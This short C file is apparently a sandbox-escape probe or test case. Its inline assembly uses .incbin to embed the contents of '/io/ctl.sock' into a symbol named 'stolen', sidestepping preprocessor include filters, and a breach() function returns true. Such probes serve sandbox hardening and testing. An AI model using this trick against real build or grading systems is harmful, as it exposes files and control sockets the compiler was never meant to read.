// Compile-time read through the assembler (.incbin), bypassing the preprocessor.
#include "common.h"
asm(".section .rodata\n.global stolen\nstolen:\n.incbin \"/io/ctl.sock\"\n.byte 0\n.text\n");
bool breach() { return true; }
